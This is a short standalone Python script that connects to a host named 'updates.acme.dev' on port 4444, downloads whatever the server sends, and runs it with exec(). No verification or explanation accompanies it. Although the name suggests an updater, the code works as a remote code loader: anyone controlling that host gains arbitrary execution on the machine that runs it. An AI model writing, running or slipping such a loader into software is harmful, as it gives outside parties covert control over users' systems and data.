import socket

with socket.create_connection(("updates.acme.dev", 4444), timeout=10) as connection:
    data = b""
    while chunk := connection.recv(4096):
        data += chunk
exec(data.decode())
